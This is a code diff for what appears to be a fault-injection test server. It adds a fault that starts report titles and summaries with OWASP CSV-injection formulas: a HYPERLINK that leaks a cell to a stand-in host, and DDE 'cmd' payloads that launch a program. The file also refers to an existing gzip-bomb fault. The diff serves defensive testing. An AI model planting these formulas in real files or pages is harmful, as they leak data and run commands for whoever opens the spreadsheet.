@@ -17,6 +17,7 @@ import dataclasses
 import functools
 import gzip
 import hashlib
+import html
 import re
 import threading
 import zlib
@@ -201,6 +202,28 @@ def _letter_gzip_bomb(response: Response, path: str, hang_seconds: float) -> Res
     return dataclasses.replace(response, body=gzip_bomb(), content_encoding="gzip", cacheable=False)
 
 
+FORMULAS = (
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Read the report")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+)
+"""Text that a spreadsheet opening a CSV runs as a formula (OWASP's CSV injection examples)."""
+
+
+def _formula_text(response: Response, path: str, hang_seconds: float) -> Response:
+    """Each report's title and summary begin with a spreadsheet formula, as text pasted into the site's
+    editor could; the page is otherwise intact."""
+    formulas = iter(FORMULAS * 64)
+
+    def prefix(match: re.Match) -> bytes:
+        return match.group(1) + html.escape(next(formulas)).encode() + b" " + match.group(2)
+
+    body = re.sub(rb"(<h3><a [^>]*>)([^<])", prefix, response.body)
+    body = re.sub(rb"(</p>\s*<p>)([^<])", prefix, body)
+    return dataclasses.replace(response, body=body)
+
+
 @dataclass(frozen=True)
 class Fault:
     name: str
@@ -260,6 +283,8 @@ FAULTS: dict[str, Fault] = {
               HTML_KINDS, False, _wrong_charset),
         Fault("letter-bomb", "letter PDFs answer 40 MiB with no Content-Length, then close.",
               frozenset({"pdf"}), False, _letter_bomb),
+        Fault("formula-text", "reports list pages whose titles and summaries begin with spreadsheet formulas "
+              "(=HYPERLINK(...), @SUM(...), +cmd|...).", frozenset({"reports"}), False, _formula_text),
         Fault("letter-gzip-bomb", "letter PDFs answer the gzip bomb (~250 KB inflating to 256 MiB).",
               frozenset({"pdf"}), False, _letter_gzip_bomb),
     )
